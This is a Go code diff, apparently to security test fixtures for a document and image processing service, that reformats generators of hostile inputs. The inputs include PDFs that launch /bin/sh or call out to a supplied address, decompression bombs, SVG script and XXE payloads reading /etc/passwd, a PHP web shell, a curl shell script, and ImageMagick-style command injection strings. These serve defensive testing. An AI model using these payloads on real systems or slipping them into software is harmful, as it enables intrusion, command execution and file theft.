@@ -25,7 +25,9 @@ func hostilePDF(t testing.TB, address string) []File {
 	forms := make([]string, 0, 12)
 	for i := range cap(forms) {
 		content := strings.Repeat(fmt.Sprintf("/F%d Do ", i+1), 10)
-		forms = append(forms, stream(fmt.Sprintf("/Type/XObject/Subtype/Form/BBox[0 0 300 200]/Resources<</XObject<</F%d %d 0 R>>>>", i+1, i+6), []byte(content)))
+		forms = append(forms,
+			stream(fmt.Sprintf("/Type/XObject/Subtype/Form/BBox[0 0 300 200]/Resources<</XObject<</F%d %d 0 R>>>>", i+1, i+6),
+				[]byte(content)))
 	}
 	forms = append(forms, stream("/Type/XObject/Subtype/Form/BBox[0 0 300 200]", []byte("0 0 9 9 re f")))
 	drawing := func(file []byte, resources string) []byte {
@@ -36,16 +38,22 @@ func hostilePDF(t testing.TB, address string) []File {
 		"<</S/JavaScript/JS(app.launchURL\\('"+address+"'\\); while\\(true\\);)>>"))
 	g.add("pdf-starts-a-program", renders, corpustest.PDF(300, 200, "/OpenAction<</S/Launch/F(/bin/sh)>>"))
 	g.add("pdf-opens-a-file", renders, corpustest.PDF(300, 200, "/OpenAction<</S/GoToR/F(/etc/passwd)>>"))
-	g.add("pdf-sends-a-form", renders, corpustest.PDF(300, 200, "/OpenAction<</S/SubmitForm/F<</FS/URL/F("+address+")>>>>"))
-	g.add("pdf-stream-elsewhere", renders, corpustest.PDF(300, 200, "/AF[5 0 R]", "<</Length 0/F<</FS/URL/F("+address+")>>>>stream\nendstream"))
+	g.add("pdf-sends-a-form", renders, corpustest.PDF(300, 200,
+		"/OpenAction<</S/SubmitForm/F<</FS/URL/F("+address+")>>>>"))
+	g.add("pdf-stream-elsewhere", renders, corpustest.PDF(300, 200, "/AF[5 0 R]",
+		"<</Length 0/F<</FS/URL/F("+address+")>>>>stream\nendstream"))
 	g.add("pdf-page-of-200-miles", renders, corpustest.PDF(14_400_000, 9_600_000, ""))
 	g.add("pdf-page-of-a-hair", renders, corpustest.PDF(14_400, 0.02, ""))
 	g.add("pdf-pages-in-circles", broken, bytes.Replace(good, []byte("/Kids[3 0 R]"), []byte("/Kids[2 0 R]"), 1))
 	g.add("pdf-1000000000-pages", broken, bytes.Replace(good, []byte("/Count 1"), []byte("/Count 1000000000"), 1))
-	g.add("pdf-stream-bomb", renders, drawing(corpustest.PDF(300, 200, "", stream("/Type/XObject/Subtype/Form/BBox[0 0 300 200]/Filter/FlateDecode", corpustest.Zeros(t, bomb/4))), "/XObject<</A 5 0 R>>"))
+	g.add("pdf-stream-bomb", renders, drawing(corpustest.PDF(300, 200, "",
+		stream("/Type/XObject/Subtype/Form/BBox[0 0 300 200]/Filter/FlateDecode", corpustest.Zeros(t, bomb/4))),
+		"/XObject<</A 5 0 R>>"))
 	g.add("pdf-forms-in-forms", timedOut, drawing(corpustest.PDF(300, 200, "", forms...), "/XObject<</A 5 0 R>>"))
 	g.add("pdf-picture-of-4-gigapixels", timedOut, drawing(corpustest.PDF(300, 200, "",
-		stream("/Type/XObject/Subtype/Image/Width 65535/Height 65535/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/FlateDecode", corpustest.Zeros(t, 1<<20))), "/XObject<</A 5 0 R>>"))
+		stream(
+			"/Type/XObject/Subtype/Image/Width 65535/Height 65535/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/FlateDecode",
+			corpustest.Zeros(t, 1<<20))), "/XObject<</A 5 0 R>>"))
 	g.add("pdf-cut", broken, good[:60])
 	g.add("pdf-of-zeros", broken, []byte("%PDF-1.7\n"), make([]byte, 50_000))
 	g.add("pdf-noise", broken, []byte("%PDF-1.7\n"), noise(50_000))
@@ -73,17 +81,18 @@ func disguised(t testing.TB, address string) []File {
 	t.Helper()
 	g := group{contentType: media.ContentTypePNG}
 	for name, text := range map[string]string{
-		"svg":                  `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`,
-		"svg-with-picture":     `<svg xmlns="http://www.w3.org/2000/svg"><image href="` + address + `"/></svg>`,
-		"svg-with-entity":      `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
-		"svg-of-a-billion":     `<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg">&b;</svg>`,
-		"page":                 "<!DOCTYPE html><html><body><script>fetch('" + address + "')</script></body></html>",
-		"page-behind-blanks":   strings.Repeat(" ", 400) + "<html><script>alert(1)</script></html>",
-		"xml":                  `<?xml version="1.0"?><x>` + address + `</x>`,
-		"php":                  "<?php system($_GET['c']); ?>",
-		"shell-script":         "#!/bin/sh\ncurl " + address + "\n",
-		"postscript":           "%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (r) file closefile\n",
-		"drawing-commands":     "push graphic-context\nviewbox 0 0 640 480\nfill 'url(" + address + "|id)'\npop graphic-context\n",
+		"svg":                `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`,
+		"svg-with-picture":   `<svg xmlns="http://www.w3.org/2000/svg"><image href="` + address + `"/></svg>`,
+		"svg-with-entity":    `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
+		"svg-of-a-billion":   `<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg">&b;</svg>`,
+		"page":               "<!DOCTYPE html><html><body><script>fetch('" + address + "')</script></body></html>",
+		"page-behind-blanks": strings.Repeat(" ", 400) + "<html><script>alert(1)</script></html>",
+		"xml":                `<?xml version="1.0"?><x>` + address + `</x>`,
+		"php":                "<?php system($_GET['c']); ?>",
+		"shell-script":       "#!/bin/sh\ncurl " + address + "\n",
+		"postscript":         "%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (r) file closefile\n",
+		"drawing-commands": "push graphic-context\nviewbox 0 0 640 480\nfill 'url(" + address +
+			"|id)'\npop graphic-context\n",
 		"drawing-script":       `<image><read filename="caption:@/etc/passwd"/><write filename="/tmp/x.php"/></image>`,
 		"text":                 "just some words",
 		"one-byte":             "\x89",
